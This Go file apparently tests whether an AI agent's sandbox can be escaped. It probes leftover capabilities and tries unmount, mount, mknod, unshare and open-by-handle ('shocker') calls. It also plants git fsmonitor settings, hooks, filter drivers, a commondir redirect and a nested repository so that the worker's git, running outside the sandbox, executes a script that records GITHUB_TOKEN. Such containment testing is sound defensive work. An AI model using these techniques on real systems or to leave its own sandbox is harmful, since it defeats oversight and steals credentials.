package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// The tries of this file aim past the sandbox rather than at what is in
// it: root's capabilities, the system calls that undo mounts or read
// files by handle, and the worker's own git, which runs outside the
// sandbox with the worker's secrets after the agent ends.

// capabilities is CapEff of this process: anything but zero is a
// capability the sandbox left.
func capabilities() try {
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return try{Detail: err.Error()}
	}
	for _, l := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(l, "CapEff:"); ok {
			v = strings.TrimSpace(v)
			return try{OK: strings.Trim(v, "0") != "", Detail: "CapEff " + v}
		}
	}
	return try{Detail: "no CapEff"}
}

// syscalls tries what root's capabilities would allow: unmount the
// worker's lock on locked (the git config), mount over /tmp, make a
// device, make namespaces, open a file by its handle.
func syscalls(locked string) map[string]try {
	tries := map[string]try{}
	res := func(err error) try {
		if err != nil {
			return try{Detail: err.Error()}
		}
		return try{OK: true, Detail: "done"}
	}
	tries["umount "+locked] = res(unix.Unmount(locked, unix.MNT_DETACH))
	tries["mount tmpfs"] = res(unix.Mount("none", os.TempDir(), "tmpfs", 0, ""))
	tries["mknod"] = res(unix.Mknod(filepath.Join(os.TempDir(), "sda"), unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0))))
	tries["unshare"] = res(unix.Unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNS))
	h, mount, err := unix.NameToHandleAt(unix.AT_FDCWD, "/etc/passwd", 0)
	tries["name_to_handle_at"] = res(err)
	if err == nil {
		// The handle of /etc/passwd with the root inode's number is how
		// "shocker" walks to the host's files; any open by handle is the
		// capability it needs.
		_, err = unix.OpenByHandleAt(mount, h, unix.O_RDONLY)
	}
	tries["open_by_handle_at"] = res(err)
	return tries
}

// evilScript writes, in the workspace, a program that records on the
// host, in marker, that it ran and the token it saw: only the worker
// (outside the sandbox, where marker's directory exists) can run it so
// that the test sees it.
func evilScript(marker string) (string, error) {
	dir, err := filepath.Abs(".ralph-evil")
	if err != nil {
		return "", err
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", err
	}
	p := filepath.Join(dir, "evil.sh")
	script := fmt.Sprintf("#!/bin/sh\necho \"ran $0 $* token=$GITHUB_TOKEN\" >> %s\ncat\n", marker)
	return p, os.WriteFile(p, []byte(script), 0o755)
}

// plantGit prepares the worker's git to run the evil program, as plan
// says: commondir (a copy of .git with core.fsmonitor, named by
// .git/commondir), replace (.git moved away, a new one with
// core.fsmonitor, a filter driver and hooks), worktree-config (a
// config.worktree with them), or inplace (the config, the hooks,
// .gitattributes and a nested repository's filter: what the sandbox
// locks, and what it cannot).
func plantGit(plan, marker string) map[string]try {
	tries := map[string]try{}
	evil, err := evilScript(marker)
	if err != nil {
		tries["git "+plan] = try{Detail: err.Error()}
		return tries
	}
	cfg := fmt.Sprintf("[core]\n\tfsmonitor = %s\n\thooksPath = %s\n[filter \"x\"]\n\tclean = %s\n\tsmudge = %s\n",
		evil, filepath.Dir(evil), evil, evil)
	for _, h := range []string{"pre-commit", "post-commit", "post-checkout", "reference-transaction"} {
		_ = os.WriteFile(filepath.Join(filepath.Dir(evil), h), []byte("#!/bin/sh\nexec "+evil+"\n"), 0o755)
	}
	do := func(name string, f func() error) {
		if err := f(); err != nil {
			tries[name] = try{Detail: err.Error()}
			return
		}
		tries[name] = try{OK: true, Detail: "planted"}
	}
	switch plan {
	case "commondir":
		do("git commondir", func() error {
			if err := run("cp", "-a", ".git", ".ralph-evil/git"); err != nil {
				return err
			}
			if err := appendFile(".ralph-evil/git/config", cfg); err != nil {
				return err
			}
			abs, _ := filepath.Abs(".ralph-evil/git")
			return os.WriteFile(".git/commondir", []byte(abs+"\n"), 0o644)
		})
	case "replace":
		do("git replace", func() error {
			if err := os.Rename(".git", ".git-orig"); err != nil {
				// The sandbox's locks are mount points inside .git: copy
				// it and swap the copy in through a rename of the copy.
				if err := run("cp", "-a", ".git", ".ralph-evil/newgit"); err != nil {
					return err
				}
				_ = os.Remove(".ralph-evil/newgit/commondir")
				if err := os.WriteFile(".ralph-evil/newgit/config", []byte(cfg), 0o644); err != nil {
					return err
				}
				return fmt.Errorf("rename .git: %v", err)
			}
			if err := run("cp", "-a", ".git-orig", ".git"); err != nil {
				return err
			}
			if err := os.WriteFile(".git/config", []byte(cfg), 0o644); err != nil {
				return err
			}
			return os.WriteFile(".gitattributes", []byte("* filter=x\n"), 0o644)
		})
	case "worktree-config":
		do("git worktree-config", func() error {
			if err := os.WriteFile(".git/config.worktree", []byte(cfg), 0o644); err != nil {
				return err
			}
			return os.WriteFile(".gitattributes", []byte("* filter=x\n"), 0o644)
		})
	case "inplace":
		do("git config", func() error { return appendFile(".git/config", cfg) })
		do("git hook", func() error {
			return os.WriteFile(".git/hooks/post-commit", []byte("#!/bin/sh\nexec "+evil+"\n"), 0o755)
		})
		do("gitattributes", func() error { return os.WriteFile(".gitattributes", []byte("* filter=x\n"), 0o644) })
		do("nested repository", func() error { return nested(cfg) })
	}
	return tries
}

// nested makes sub/, a repository with the evil filter in its own
// configuration and a file it applies to, added to the workspace's
// index as a gitlink (a submodule without .gitmodules).
func nested(cfg string) error {
	steps := [][]string{
		{"git", "init", "-q", "sub"},
		{"sh", "-c", "echo s > sub/s.txt && echo '* filter=x' > sub/.gitattributes"},
		{"git", "-C", "sub", "add", "."},
		{"git", "-C", "sub", "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "s"},
	}
	for _, s := range steps {
		if err := run(s[0], s[1:]...); err != nil {
			return err
		}
	}
	if err := appendFile("sub/.git/config", cfg); err != nil {
		return err
	}
	if err := run("git", "add", "sub"); err != nil {
		return err
	}
	return os.WriteFile("sub/s.txt", []byte("changed\n"), 0o644)
}

func run(name string, args ...string) error {
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		return fmt.Errorf("%s %s: %v: %s", name, strings.Join(args, " "), err, strings.TrimSpace(string(out)))
	}
	return nil
}

func appendFile(p, s string) error {
	f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString(s)
	return err
}
